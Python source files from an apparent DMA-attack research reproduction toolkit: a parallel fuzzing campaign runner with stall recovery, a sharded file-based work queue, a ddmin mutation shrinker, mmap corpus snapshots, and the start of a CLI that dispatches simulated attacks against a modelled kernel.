            snapshot_root = scratch_snapshot_root
        try:
            snapshot_path = snapshot_store.materialize(
                CorpusMutator(config.base_seed, scale=config.scale),
                snapshot_root)
        except OSError:
            # a snapshot is an optimization, never a requirement:
            # workers fall back to the cache/regenerate path
            snapshot_path = None

    killed_pids: set[int] = set()

    def poll_and_recover(inflight_seeds: set[int],
                         stall_victims: dict[int, int]) -> None:
        """Heartbeat scan; with ``retry_stalled`` armed, SIGKILL any
        worker whose running seed has gone silent past the threshold."""
        if monitor is None:
            return
        healths = monitor.scan()
        if heartbeat is not None:
            heartbeat(healths)
        if config.retry_stalled <= 0:
            return
        for health in healths:
            if not health.stalled or not health.pid \
                    or health.pid == os.getpid() \
                    or health.pid in killed_pids \
                    or health.seed not in inflight_seeds:
                continue
            killed_pids.add(health.pid)
            stall_victims[health.pid] = health.seed
            try:
                os.kill(health.pid, signal.SIGKILL)
            except OSError:
                continue
            # retire the dead worker's beat so it is not re-flagged
            try:
                os.unlink(os.path.join(
                    config.heartbeat_dir,
                    f"worker-{health.worker_id}.json"))
            except OSError:
                pass

    avg_seed_s: float | None = None
    work = deque(pending)
    try:
        while work:
            executor = ProcessPoolExecutor(
                max_workers=config.jobs, initializer=_init_worker,
                initargs=(config, snapshot_path))
            broken = False
            stall_victims: dict[int, int] = {}   # killed pid -> seed
            inflight: dict = {}                  # future -> [seeds]
            try:
                while work or inflight:
                    while work and not broken \
                            and len(inflight) < config.jobs \
                            * INFLIGHT_FACTOR:
                        size = _batch_size(
                            avg_seed_s, len(work), config.jobs,
                            target_s=config.batch_target_s,
                            max_batch=config.max_batch)
                        batch = [work.popleft()
                                 for _ in range(min(size, len(work)))]
                        future = executor.submit(
                            _worker_batch, batch,
                            [tries[seed] for seed in batch])
                        inflight[future] = batch
                        metrics.count("campaign", "batches")
                    if not inflight:
                        break
                    finished, _pending = wait(
                        inflight, timeout=HEARTBEAT_POLL_S,
                        return_when=FIRST_COMPLETED)
                    stalled_seeds = set(stall_victims.values())
                    for future in finished:
                        batch = inflight.pop(future)
                        try:
                            batch_records = future.result()
                        except BrokenProcessPool:
                            # the pool died: either we shot a stalled
                            # worker, or a worker was e.g. OOM-killed
                            broken = True
                            for seed in batch:
                                if seed in stalled_seeds:
                                    record_result(failure_record(
                                        seed, "stalled",
                                        f"worker killed after "
                                        f"exceeding the "
                                        f"{config.stall_after_s:.0f}s "
                                        f"heartbeat stall threshold"))
                                elif stall_victims:
                                    # innocent bystander of the stall
                                    # kill: requeue without charging
                                    # its retry budget
                                    requeued.append(seed)
                                else:
                                    record_result(failure_record(
                                        seed, "crash",
                                        "worker process pool "
                                        "collapsed"))
                            continue
                        except faults.InjectedFault as exc:
                            # batch-lifecycle fault: every seed in the
                            # batch failed together; retry re-runs them
                            for seed in batch:
                                record_result(failure_record(
                                    seed, "fault",
                                    f"injected fault at {exc.site}"))
                            continue
                        except Exception:
                            for seed in batch:
                                record_result(failure_record(
                                    seed, "error",
                                    traceback.format_exc()))
                            continue
                        for record in batch_records:
                            duration = record.get("duration_s") or 0.0
                            if duration > 0:
                                avg_seed_s = duration \
                                    if avg_seed_s is None else \
                                    (1 - _EWMA_ALPHA) * avg_seed_s \
                                    + _EWMA_ALPHA * duration
                            record_result(record)
                    if requeued:
                        work.extend(requeued)
                        requeued.clear()
                    inflight_seeds = {seed for batch in inflight.values()
                                      for seed in batch}
                    poll_and_recover(inflight_seeds, stall_victims)
                    if broken and not inflight:
                        break
            finally:
                executor.shutdown(wait=False, cancel_futures=True)
            if requeued:
                work.extend(requeued)
                requeued.clear()
    finally:
        if scratch_snapshot_root:
            shutil.rmtree(scratch_snapshot_root, ignore_errors=True)
    return finish()
