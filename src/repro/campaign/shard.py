"""Sharded work-queue mode: scale a campaign past one process tree.

``repro-dma campaign --shard-dir DIR`` turns the seed range into a
directory-based work queue that any number of **independent runner
processes** (or machines sharing a filesystem) can drain
cooperatively. The queue needs no daemon and no locks beyond POSIX
atomic file creation:

* the seed range is cut into fixed-size shards (``--shard-size``);
  shard *K* covers a deterministic seed interval, so every runner
  computes the same queue from the same config;
* a runner claims shard *K* by creating ``claim-K.json`` with
  ``O_CREAT | O_EXCL`` -- exactly one creator wins; the claim file
  records owner (host/pid), interval, and a monotonic generation;
* the owner refreshes its claim's timestamp as it progresses
  (atomic replace) and drops a ``done-K.json`` marker on completion;
* a claim that has gone silent for ``--stale-claim`` seconds without
  a done marker is presumed dead (killed runner) and may be **stolen**:
  the thief atomically replaces the claim with generation+1 and re-runs
  the shard. Stolen work may duplicate records, never corrupt them --
  per-seed results are deterministic and the merge step dedupes.

Each shard writes its own ``<stem>.shard-K.jsonl`` via the normal
runner (so ``--resume``, ``--retry``, heartbeats, fault plans, and
backends all compose per shard), and :func:`merge_shards` combines
them into the campaign's single results file with dedupe and the
torn-tail healing :func:`~repro.campaign.results.load_records` already
provides. The merged findings digest is byte-identical to a single
jobs=1 run of the same campaign.
"""

from __future__ import annotations

import json
import os
import socket
import sys
import time
from dataclasses import dataclass, replace
from typing import Callable

from repro import durability
from repro.campaign.results import (CampaignSummary, load_records,
                                    summarize)
from repro.campaign.runner import CampaignConfig, run_campaign
from repro.coverage import CoverageMap, coverage_map_path
from repro.errors import CampaignError

#: default seeds per shard -- small enough that a late-joining runner
#: still finds work, large enough that claim traffic is negligible
DEFAULT_SHARD_SIZE = 25

#: a claim untouched for this long (and not done) is presumed dead
DEFAULT_STALE_CLAIM_S = 300.0


@dataclass(frozen=True)
class Shard:
    """One claimable slice of the campaign's seed range."""

    index: int
    seed_base: int
    nr_seeds: int

    @property
    def seeds(self) -> list[int]:
        return list(range(self.seed_base, self.seed_base + self.nr_seeds))


def plan_shards(config: CampaignConfig,
                shard_size: int = DEFAULT_SHARD_SIZE) -> list[Shard]:
    """Cut the campaign's seed range into the deterministic shard queue."""
    if shard_size <= 0:
        raise CampaignError(f"shard size must be positive, "
                            f"got {shard_size}")
    shards = []
    for index, start in enumerate(range(0, config.nr_seeds, shard_size)):
        shards.append(Shard(index, config.seed_base + start,
                            min(shard_size, config.nr_seeds - start)))
    return shards


def shard_results_path(output: str, index: int) -> str:
    stem, ext = os.path.splitext(output)
    return f"{stem}.shard-{index}{ext or '.jsonl'}"


def _claim_path(shard_dir: str, index: int) -> str:
    return os.path.join(shard_dir, f"claim-{index}.json")


def _done_path(shard_dir: str, index: int) -> str:
    return os.path.join(shard_dir, f"done-{index}.json")


def _owner() -> str:
    return f"{socket.gethostname()}:{os.getpid()}"


def _claim_body(shard: Shard, generation: int) -> dict:
    return {"shard": shard.index, "seed_base": shard.seed_base,
            "nr_seeds": shard.nr_seeds, "owner": _owner(),
            "generation": generation, "claimed_at": time.time()}


def _write_atomic(path: str, body: dict) -> None:
    durability.atomic_write_json(path, body, sort_keys=True)


def try_claim(shard_dir: str, shard: Shard, *,
              stale_after_s: float = DEFAULT_STALE_CLAIM_S) -> dict | None:
    """Claim *shard*; returns the claim body on success, None if it is
    owned (and fresh) or already done.

    The fresh-claim path is ``O_CREAT | O_EXCL`` -- one winner, always.
    The steal path (stale claim, no done marker) is an atomic replace
    carrying generation+1; two simultaneous thieves still end with one
    file and deterministic records, so the worst case is duplicated
    work, which the merge step dedupes.
    """
    if os.path.exists(_done_path(shard_dir, shard.index)):
        return None
    path = _claim_path(shard_dir, shard.index)
    body = _claim_body(shard, generation=0)
    try:
        fd = os.open(path, os.O_CREAT | os.O_EXCL | os.O_WRONLY)
    except FileExistsError:
        try:
            with open(path, encoding="utf-8") as handle:
                current = json.load(handle)
            age = time.time() - float(current.get("claimed_at", 0.0))
            generation = int(current.get("generation", 0))
        except (OSError, ValueError):
            # torn claim (writer died mid-replace churn): treat as stale
            age, generation = float("inf"), 0
        if age <= stale_after_s:
            return None
        body = _claim_body(shard, generation=generation + 1)
        _write_atomic(path, body)
        return body
    with os.fdopen(fd, "w", encoding="utf-8") as handle:
        json.dump(body, handle, sort_keys=True)
    return body


def refresh_claim(shard_dir: str, shard: Shard, claim: dict) -> None:
    """Touch the claim so other runners keep treating it as live."""
    claim = dict(claim)
    claim["claimed_at"] = time.time()
    _write_atomic(_claim_path(shard_dir, shard.index), claim)


def mark_done(shard_dir: str, shard: Shard, claim: dict,
              results_path: str) -> None:
    body = dict(claim)
    body["done_at"] = time.time()
    body["results"] = results_path
    _write_atomic(_done_path(shard_dir, shard.index), body)


def shard_config(config: CampaignConfig, shard: Shard) -> CampaignConfig:
    """The runner config for one shard: its seed interval, its own
    results file, and resume always on (a stolen shard continues from
    whatever the dead owner already landed)."""
    if not config.output:
        raise CampaignError("sharded mode needs --output")
    return replace(config, seed_base=shard.seed_base,
                   nr_seeds=shard.nr_seeds,
                   output=shard_results_path(config.output, shard.index),
                   resume=True)


def run_sharded_campaign(config: CampaignConfig, shard_dir: str, *,
                         shard_size: int = DEFAULT_SHARD_SIZE,
                         stale_after_s: float = DEFAULT_STALE_CLAIM_S,
                         progress: Callable[[dict], None] | None = None,
                         heartbeat=None,
                         log=lambda _msg: None) -> int:
    """Drain the shard queue: claim, run, mark done, repeat.

    Returns the number of shards this runner completed. Other runners
    pointed at the same *shard_dir* drain the rest; when every shard
    has a done marker, :func:`merge_shards` builds the merged results.
    """
    os.makedirs(shard_dir, exist_ok=True)
    nr_run = 0
    for shard in plan_shards(config, shard_size):
        claim = try_claim(shard_dir, shard, stale_after_s=stale_after_s)
        if claim is None:
            continue
        log(f"shard {shard.index}: claimed seeds "
            f"[{shard.seed_base}, {shard.seed_base + shard.nr_seeds - 1}]"
            f" (generation {claim['generation']})")
        sub = shard_config(config, shard)

        def _progress(record: dict, _shard=shard, _claim=claim) -> None:
            refresh_claim(shard_dir, _shard, _claim)
            if progress is not None:
                progress(record)

        run_campaign(sub, progress=_progress, heartbeat=heartbeat)
        mark_done(shard_dir, shard, claim, sub.output)
        nr_run += 1
    return nr_run


def pending_shards(config: CampaignConfig, shard_dir: str, *,
                   shard_size: int = DEFAULT_SHARD_SIZE) -> list[Shard]:
    """Shards with no done marker yet (claimed-but-unfinished counts)."""
    return [shard for shard in plan_shards(config, shard_size)
            if not os.path.exists(_done_path(shard_dir, shard.index))]


def format_seed_ranges(seeds: list[int]) -> str:
    """Compress a sorted seed list into ``"3-7, 12, 40-41"`` form, so
    a missing-seed warning can *name* every gap without printing a
    thousand-element list."""
    ranges: list[str] = []
    run_start = run_end = None
    for seed in sorted(seeds):
        if run_start is None:
            run_start = run_end = seed
        elif seed == run_end + 1:
            run_end = seed
        else:
            ranges.append(str(run_start) if run_start == run_end
                          else f"{run_start}-{run_end}")
            run_start = run_end = seed
    if run_start is not None:
        ranges.append(str(run_start) if run_start == run_end
                      else f"{run_start}-{run_end}")
    return ", ".join(ranges)


def missing_seeds_message(missing: list[int]) -> str:
    """The enriched merge warning: names every missing seed id."""
    return (f"campaign: warning: merge is missing {len(missing)} "
            f"seed(s): {format_seed_ranges(missing)}; "
            f"run more shard workers or re-run --merge later")


def stale_claim_message(index: int, owner: str, age_s: float) -> str:
    return (f"campaign: warning: collected stale claim-{index}.json "
            f"(owner {owner}, silent {age_s:.0f}s, no done marker); "
            f"a SIGKILLed runner left it behind -- the shard is "
            f"claimable again")


def collect_stale_claims(shard_dir: str, config: CampaignConfig, *,
                         shard_size: int = DEFAULT_SHARD_SIZE,
                         stale_after_s: float = DEFAULT_STALE_CLAIM_S,
                         on_collect: Callable[[str], None] | None = None
                         ) -> list[int]:
    """GC ``claim-K.json`` files whose owner died without a done marker.

    The steal path (:func:`try_claim`) already tolerates these, but a
    ``--merge`` run used to leave them behind forever -- confusing any
    later runner pointed at the queue into skipping finished-looking
    work. Each collected claim is reported through *on_collect(msg)*
    (default: stderr) with a warning naming the dead owner. Returns
    the collected shard indices.
    """
    collected: list[int] = []
    now = time.time()
    for shard in plan_shards(config, shard_size):
        path = _claim_path(shard_dir, shard.index)
        if os.path.exists(_done_path(shard_dir, shard.index)) \
                or not os.path.exists(path):
            continue
        try:
            with open(path, encoding="utf-8") as handle:
                claim = json.load(handle)
            age = now - float(claim.get("claimed_at", 0.0))
            owner = str(claim.get("owner", "unknown"))
        except (OSError, ValueError):
            # torn claim: its writer died mid-replace; always stale
            age, owner = float("inf"), "unknown"
        if age <= stale_after_s:
            continue
        try:
            os.unlink(path)
        except OSError:
            continue
        collected.append(shard.index)
        message = stale_claim_message(shard.index, owner,
                                      min(age, now))
        if on_collect is not None:
            on_collect(message)
        else:
            print(message, file=sys.stderr)
        # recovery observability: same counters/trace the rest of the
        # durability layer uses
        from repro import metrics, trace
        metrics.count("durability", "recoveries", kind="stale_claim")
        if "durability" in trace.active_categories:
            trace.emit("durability", "stale_claim_collected",
                       shard=shard.index, owner=owner)
    return collected


def merge_shards(config: CampaignConfig, *,
                 shard_size: int = DEFAULT_SHARD_SIZE,
                 on_bad_line=None,
                 on_missing: Callable[[list[int]], None] | None = None,
                 shard_dir: str | None = None,
                 stale_after_s: float = DEFAULT_STALE_CLAIM_S
                 ) -> CampaignSummary:
    """Combine every shard's JSONL into the campaign's results file.

    Dedupe prefers completed records over failures (a stolen shard can
    leave both a dead owner's failure and the thief's success), torn
    tails are healed by :func:`load_records`, and the merged file is
    written sorted by seed -- byte-identical ordering to a jobs=1 run,
    so the findings digests match. The campaign's CoverageMap is
    rebuilt from the merged records and saved beside the output,
    byte-identical to the map an unsharded run writes.

    *on_missing(missing_seed_ids)* is called when seeds are absent
    from every shard (the sorted full id list); the default prints
    :func:`missing_seeds_message` to stderr.

    With *shard_dir*, stale claims a SIGKILLed runner abandoned are
    garbage-collected first (see :func:`collect_stale_claims`), along
    with any ``.durability-*.tmp`` residue in the queue directory.
    """
    if not config.output:
        raise CampaignError("merge needs --output")
    if shard_dir:
        collect_stale_claims(shard_dir, config, shard_size=shard_size,
                             stale_after_s=stale_after_s)
        durability.collect_stale_tmp(shard_dir)
    merged: dict[int, dict] = {}
    for shard in plan_shards(config, shard_size):
        path = shard_results_path(config.output, shard.index)
        for seed, record in load_records(
                path, on_bad_line=on_bad_line).items():
            if seed not in shard.seeds:
                continue   # foreign/corrupt row: never cross shards
            current = merged.get(seed)
            if current is None or (current.get("status") != "ok"
                                   and record.get("status") == "ok"):
                merged[seed] = record
    missing = [seed for seed in config.seeds if seed not in merged]
    if missing:
        if on_missing is not None:
            on_missing(missing)
        else:
            print(missing_seeds_message(missing), file=sys.stderr)
    durability.atomic_write_text(
        config.output,
        "".join(json.dumps(durability.seal_record(merged[seed]),
                           sort_keys=True) + "\n"
                for seed in sorted(merged)))
    in_range = {seed: record for seed, record in merged.items()
                if seed in config.seeds}
    if config.coverage:
        CoverageMap.from_records(in_range).save(
            coverage_map_path(config.output))
    return summarize(in_range)
