"""Delta-debugging shrinker for disagreeing seeds.

A campaign seed that produces a static-vs-dynamic disagreement
usually carries several mutations, most of them innocent noise. The
shrinker bisects the mutation list ddmin-style: it repeatedly tries
dropping complements of ever-finer chunks, keeping any subset that
still reproduces the target disagreement, until no single mutation can
be removed. The result is the minimal mutated tree that splits the
detectors -- the artifact you attach to a detector bug report.
"""

from __future__ import annotations

import math
from dataclasses import dataclass, field
from typing import Callable

from repro.campaign.mutate import CorpusMutator, MutatedCorpus, Mutation
from repro.campaign.oracle import Disagreement, run_differential
from repro.errors import CampaignError


@dataclass
class ShrinkResult:
    """A minimal reproducing mutation set and its derived tree."""

    mutations: list[Mutation]
    corpus: MutatedCorpus
    evaluations: int = 0
    history: list[int] = field(default_factory=list)  # sizes over time


def matches_target(disagreement: Disagreement, target: Disagreement
                   ) -> bool:
    """Same file, same in-file site, same verdict.

    Line numbers shift as mutations are dropped, so identity is the
    line-stable (path, site_index) pair, not the raw line.
    """
    return (disagreement.path == target.path
            and disagreement.site_index == target.site_index
            and disagreement.verdict == target.verdict)


def disagreement_predicate(mutator: CorpusMutator, seed: int,
                           target: Disagreement
                           ) -> Callable[[list[Mutation]], bool]:
    """True iff applying the subset still reproduces *target*."""

    def predicate(mutations: list[Mutation]) -> bool:
        mutated = mutator.apply(mutations)
        result = run_differential(mutated.tree, mutated.manifest,
                                  seed=seed)
        return any(matches_target(d, target)
                   for d in result.disagreements)

    return predicate


def shrink_mutations(mutations: list[Mutation],
                     predicate: Callable[[list[Mutation]], bool], *,
                     max_evaluations: int = 128
                     ) -> tuple[list[Mutation], int, list[int]]:
    """ddmin: the shortest sublist on which *predicate* still holds."""
    if not predicate(list(mutations)):
        raise CampaignError(
            "shrink target does not reproduce under the full "
            "mutation list")
    # a disagreement already present in the unmutated base shrinks to
    # the empty set -- otherwise ddmin would converge to an arbitrary
    # singleton and falsely implicate an innocent mutation
    if mutations and predicate([]):
        return [], 2, [len(mutations), 0]
    current = list(mutations)
    history = [len(current)]
    granularity = 2
    evaluations = 1 + bool(mutations)
    while len(current) >= 2 and evaluations < max_evaluations:
        chunk = math.ceil(len(current) / granularity)
        reduced = False
        for start in range(0, len(current), chunk):
            complement = current[:start] + current[start + chunk:]
            if not complement:
                continue
            evaluations += 1
            if predicate(complement):
                current = complement
                history.append(len(current))
                granularity = max(granularity - 1, 2)
                reduced = True
                break
            if evaluations >= max_evaluations:
                break
        if not reduced:
            if granularity >= len(current):
                break
            granularity = min(len(current), granularity * 2)
    return current, evaluations, history


def shrink_seed(mutator: CorpusMutator, seed: int,
                mutations: list[Mutation], target: Disagreement, *,
                max_evaluations: int = 128) -> ShrinkResult:
    """Minimize one seed's mutations against one target disagreement."""
    predicate = disagreement_predicate(mutator, seed, target)
    minimal, evaluations, history = shrink_mutations(
        mutations, predicate, max_evaluations=max_evaluations)
    return ShrinkResult(minimal, mutator.apply(minimal),
                        evaluations=evaluations, history=history)
