"""Shared on-disk base-corpus snapshots for warm campaign workers.

The parallel-campaign regression had three ingredients; this module
removes the biggest one. Before, every worker process materialized its
own copy of the generated base corpus -- either by regenerating ~450
files or by walking ~450 individual JSON cache entries -- once per
process (and before PR 3, once per *seed*). A snapshot materializes
the corpus exactly once, in the parent, as two files:

``corpus.bin``
    every file's UTF-8 text concatenated into one blob. Workers map
    it with :mod:`mmap`, so N workers on one host share the same page
    cache pages instead of N private heaps of JSON decoding.
``index.json``
    the snapshot's self-description: schema, content key, per-file
    ``[path, offset, length]`` table into the blob, and the manifest's
    ground-truth sites.

Snapshots are **content-addressed**: the directory name is derived
from the same (generator version, seed, composition) key the
perfcache corpus namespace uses, so concurrent runners -- including
independent sharded-queue processes pointed at one ``--shard-dir`` --
cooperate instead of clobbering each other: whoever materializes
first wins, everyone else opens the result read-only. Writes go
through ``tempfile`` + ``os.replace`` with ``index.json`` last, so a
snapshot directory with an index is complete by construction; a
killed writer leaves no torn snapshot, only an ignorable partial.
"""

from __future__ import annotations

import json
import mmap
import os

from repro import durability
from repro.campaign.mutate import CorpusMutator
from repro.corpus.generate import SourceTree
from repro.corpus.manifest import CallSiteTruth, Manifest
from repro.errors import CampaignError

#: bump when the on-disk snapshot layout changes
SNAPSHOT_SCHEMA = 1

INDEX_NAME = "index.json"
BLOB_NAME = "corpus.bin"


def snapshot_dir(root: str, mutator: CorpusMutator) -> str:
    """The content-addressed directory one mutator's snapshot lives in."""
    return os.path.join(root, f"snap-{mutator.base_key()[:24]}")


def is_complete(directory: str) -> bool:
    """True when *directory* holds a finished snapshot (index present)."""
    return os.path.exists(os.path.join(directory, INDEX_NAME))


def materialize(mutator: CorpusMutator, root: str) -> str:
    """Write (or reuse) the snapshot for *mutator* under *root*.

    Returns the snapshot directory. Idempotent and race-free across
    processes: a complete snapshot is returned as-is, and two racing
    writers both produce valid files with the last ``os.replace``
    winning byte-identically (the content is deterministic).
    """
    directory = snapshot_dir(root, mutator)
    if is_complete(directory):
        return directory
    tree, manifest = mutator.base_view()
    os.makedirs(directory, exist_ok=True)

    offsets: list[list] = []
    chunks: list[bytes] = []
    position = 0
    for path in sorted(tree.files):
        data = tree.files[path].encode("utf-8")
        chunks.append(data)
        offsets.append([path, position, len(data)])
        position += len(data)
    durability.atomic_write_bytes(os.path.join(directory, BLOB_NAME),
                                  b"".join(chunks))

    index = {
        "schema": SNAPSHOT_SCHEMA,
        "key": mutator.base_key(),
        "files": offsets,
        "sites": [[s.path, s.line, s.category, sorted(s.exposures)]
                  for s in manifest.sites],
    }
    # index last: a directory with an index is complete by construction
    durability.atomic_write_json(os.path.join(directory, INDEX_NAME),
                                 index, separators=(",", ":"))
    return directory


def load(directory: str) -> tuple[SourceTree, Manifest]:
    """Open a snapshot read-only and decode it into a base pair.

    The blob is mapped, not read: the single sequential decode pass
    touches each page once and every concurrent worker on the host
    shares those pages. Raises :class:`CampaignError` on a missing or
    torn snapshot -- callers fall back to the perfcache/regenerate
    path.
    """
    index_path = os.path.join(directory, INDEX_NAME)
    blob_path = os.path.join(directory, BLOB_NAME)
    try:
        with open(index_path, encoding="utf-8") as handle:
            index = json.load(handle)
    except (OSError, ValueError) as exc:
        raise CampaignError(f"snapshot {directory}: bad index: {exc}")
    if index.get("schema") != SNAPSHOT_SCHEMA:
        raise CampaignError(
            f"snapshot {directory}: schema "
            f"{index.get('schema')!r} != {SNAPSHOT_SCHEMA}")
    files: dict[str, str] = {}
    needed = max((offset + length for _path, offset, length
                  in index.get("files", [])), default=0)
    try:
        with open(blob_path, "rb") as handle:
            size = os.fstat(handle.fileno()).st_size
            if size < needed:
                # truncated blob (writer died or disk filled): a slice
                # past EOF would silently yield short text
                raise CampaignError(
                    f"snapshot {directory}: blob holds {size} bytes, "
                    f"index expects {needed}")
            if size == 0:
                view = b""
                for path, offset, length in index["files"]:
                    files[path] = ""
            else:
                view = mmap.mmap(handle.fileno(), 0,
                                 access=mmap.ACCESS_READ)
                try:
                    for path, offset, length in index["files"]:
                        files[path] = view[offset:offset + length] \
                            .decode("utf-8")
                finally:
                    view.close()
    except (OSError, ValueError, KeyError, IndexError,
            UnicodeDecodeError) as exc:
        raise CampaignError(f"snapshot {directory}: bad blob: {exc}")
    try:
        manifest = Manifest([
            CallSiteTruth(path, line, category, frozenset(exposures))
            for path, line, category, exposures in index["sites"]])
    except (KeyError, TypeError, ValueError) as exc:
        raise CampaignError(f"snapshot {directory}: bad sites: {exc}")
    return SourceTree(files), manifest


def adopt(mutator: CorpusMutator, directory: str) -> bool:
    """Load *directory* into *mutator* as its canonical base.

    Returns False (leaving the mutator on its regenerate/cache path)
    when the snapshot is missing or torn, or when its content key does
    not match the mutator -- a snapshot must never silently swap the
    corpus under a differently-configured campaign.
    """
    try:
        with open(os.path.join(directory, INDEX_NAME),
                  encoding="utf-8") as handle:
            key = json.load(handle).get("key")
    except (OSError, ValueError):
        return False
    if key != mutator.base_key():
        return False
    try:
        tree, manifest = load(directory)
    except CampaignError:
        return False
    mutator.adopt_base(tree, manifest)
    return True
