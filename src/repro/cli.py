"""Command-line interface: ``repro-dma`` (or ``python -m repro``).

Subcommands mirror the paper's workflow:

* ``audit``     -- run SPADE over the generated driver tree (Table 2)
* ``sanitize``  -- run D-KASAN under the compile+ping workload (Fig 3)
* ``attack``    -- run one attack against a configurable victim
* ``matrix``    -- the attack-vs-defense matrix (sections 7-9)
* ``oscompare`` -- the Windows/macOS/FreeBSD scenarios (section 7)
* ``campaign``  -- parallel differential fuzzing: SPADE vs D-KASAN
  over many mutated corpora, scored against ground truth
* ``trace``     -- run a workload or attack under the flight recorder
  and export the trace (JSONL, chrome://tracing, text timeline)
* ``coverage``  -- report, diff, merge, or rank the persistent
  campaign coverage maps (deterministic trace-derived signatures)
* ``metrics``   -- run a workload under the metrics registry and
  export the aggregate counters (Prometheus text, JSON, /proc-style)
* ``bench``     -- tracked perf benchmarks with a JSONL history and a
  rolling-median regression gate
* ``chaos``     -- run the standard workloads and a differential
  campaign under a deterministic fault-injection plan; exit nonzero
  only on faults the stack failed to recover from
* ``serve``     -- long-lived SPADE-as-a-service daemon answering
  analyze/replay/chaos requests over an NDJSON socket protocol,
  byte-identical to the one-shot commands above
* ``loadgen``   -- drive a serve daemon with a deterministic mixed
  request load and feed the latency/throughput numbers into the
  bench pipeline

Exit codes are uniform across subcommands: 0 success, 1 the
experiment ran but its claim failed (attack blocked, seeds failed),
2 bad input (argparse-style, message on stderr).
"""

from __future__ import annotations

import argparse
import os
import sys


def _fail(message: str) -> int:
    """Uniform bad-input path: argparse-style stderr message, exit 2."""
    print(f"repro-dma: error: {message}", file=sys.stderr)
    return 2


def _resolve_backend(value):
    """Validate a ``--backend`` value against the registry.

    Returns ``(canonical_name_or_None, error_message_or_None)`` --
    every ``--backend`` consumer funnels unknown names through this
    one path so they all fail identically (exit 2, same message as
    the serve protocol's ``backend`` field).
    """
    if value is None:
        return None, None
    from repro import backends
    from repro.errors import BackendError
    try:
        return backends.get_backend(value).name, None
    except BackendError as exc:
        return None, str(exc)


def _positive_int(text: str) -> int:
    try:
        value = int(text)
    except ValueError:
        raise argparse.ArgumentTypeError(f"invalid int value: {text!r}")
    if value <= 0:
        raise argparse.ArgumentTypeError(
            f"must be a positive integer, got {value}")
    return value


def _positive_float(text: str) -> float:
    try:
        value = float(text)
    except ValueError:
        raise argparse.ArgumentTypeError(
            f"invalid float value: {text!r}")
    if value <= 0:
        raise argparse.ArgumentTypeError(f"must be > 0, got {value}")
    return value


def _add_victim_args(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--seed", type=int, default=5)
    parser.add_argument("--boot-index", type=int, default=0)
    parser.add_argument("--iommu-mode", choices=("deferred", "strict"),
                        default="deferred")
    parser.add_argument("--forwarding", action="store_true")
    parser.add_argument("--pointer-blinding", action="store_true")
    parser.add_argument("--bounce-buffers", action="store_true")
    parser.add_argument("--damn", action="store_true")
    parser.add_argument("--randomize-layout", action="store_true")
    parser.add_argument("--cet", action="store_true",
                        help="enable CET IBT + shadow stack")
    parser.add_argument("--unmap-order",
                        choices=("unmap_first", "skb_first"),
                        default="unmap_first")


def _build_victim(args):
    from repro.sim.kernel import Kernel
    kernel = Kernel(seed=args.seed, boot_index=args.boot_index,
                    iommu_mode=args.iommu_mode,
                    forwarding=args.forwarding,
                    pointer_blinding=args.pointer_blinding,
                    bounce_buffers=args.bounce_buffers,
                    damn=args.damn,
                    randomize_struct_layout=args.randomize_layout,
                    cet_ibt=args.cet, cet_shadow_stack=args.cet,
                    zerocopy_threshold=512 if args.pointer_blinding
                    else None)
    kernel.add_nic("eth0", unmap_order=args.unmap_order)
    return kernel


def cmd_audit(args) -> int:
    from repro import backends as backend_registry
    from repro.core.spade import Spade, Table2Stats
    from repro.core.spade.report import (format_finding_trace,
                                         format_table2)
    from repro.corpus import CorpusGenerator
    from repro.corpus.generate import SourceTree

    backend, error = _resolve_backend(args.backend)
    if error:
        return _fail(error)
    if backend_registry.backend_label(backend):
        # SPADE never boots a kernel; findings cannot depend on the
        # IOMMU model. Accept the flag (uniform UX with the dynamic
        # subcommands) but say so instead of silently ignoring it.
        print(f"backend {backend}: SPADE is static analysis; "
              f"findings are backend-independent")

    if args.tree:
        if not os.path.isdir(args.tree):
            return _fail(f"--tree {args.tree}: not a directory")
        tree = SourceTree.from_dir(args.tree)
        manifest = None
        if not tree.files:
            return _fail(f"--tree {args.tree}: no C sources found")
        print(f"loaded {len(tree.paths(suffix='.c'))} C files from "
              f"{args.tree}")
    else:
        if args.scale != 1.0:
            from repro.corpus.linux50 import scaled_composition
            tree, manifest = CorpusGenerator(
                seed=args.corpus_seed,
                composition=scaled_composition(args.scale)).generate()
        else:
            tree, manifest = CorpusGenerator(
                seed=args.corpus_seed).generate()
    if args.dump_tree:
        tree.write_to_dir(args.dump_tree)
        print(f"corpus written to {args.dump_tree}")
    spade = Spade(tree)
    findings = spade.analyze()
    print(format_table2(Table2Stats.from_findings(findings)))
    if args.findings_json:
        from repro import durability
        from repro.perfcache.codec import encode_findings
        from repro.serve.protocol import canonical_json
        durability.atomic_write_text(
            args.findings_json,
            canonical_json(encode_findings(findings)) + "\n")
        print(f"wrote findings to {args.findings_json}")
    if args.trace:
        matched = [f for f in findings if args.trace in f.file]
        for finding in matched:
            print()
            print(format_finding_trace(finding))
        if not matched:
            print(f"no findings in files matching {args.trace!r}")
    if manifest is not None:
        validation = spade.validate(findings, manifest)
        print(f"\nvalidation: precision {validation.precision:.3f}, "
              f"recall {validation.recall:.3f}")
    if spade.index.parse_errors:
        print(f"({len(spade.index.parse_errors)} files failed to parse "
              f"and were skipped)")
    return 0


def cmd_sanitize(args) -> int:
    from repro.core.dkasan import DKasan, format_report
    from repro.sim.kernel import Kernel
    from repro.sim.workload import run_compile_and_ping

    dkasan = DKasan(256 << 20)
    kernel = Kernel(seed=args.seed, phys_mb=256, sink=dkasan)
    nic = kernel.add_nic("eth0")
    stats = run_compile_and_ping(kernel, nic, rounds=args.rounds)
    print(f"workload: {stats.allocations} allocations, "
          f"{stats.pings} pings\n")
    print(format_report(dkasan))
    return 0


def cmd_attack(args) -> int:
    from repro.core.attacks.ringflood import make_attacker
    victim = _build_victim(args)
    nic = victim.nics["eth0"]
    device = make_attacker(victim, "eth0")

    if args.name == "ringflood":
        from repro.core.attacks.ringflood import (profile_replica_boots,
                                                  run_ringflood)
        print(f"profiling {args.profile_boots} replica boots...")
        profile = profile_replica_boots(args.profile_boots,
                                        seed=args.seed, nr_slots=48)
        report = run_ringflood(victim, nic, device, profile,
                               nr_slots=12)
    elif args.name == "poisoned-tx":
        from repro.core.attacks.poisoned_tx import run_poisoned_tx
        report = run_poisoned_tx(victim, nic, device)
    elif args.name == "forward":
        from repro.core.attacks.forward import run_forward_thinking
        report = run_forward_thinking(victim, nic, device)
    elif args.name == "blinding-bypass":
        from repro.core.attacks.blinding_bypass import run_blinding_bypass
        report = run_blinding_bypass(victim, nic, device)
    elif args.name == "single-step":
        from repro.core.attacks.singlestep import (LegacyCmdDriver,
                                                   run_single_step)
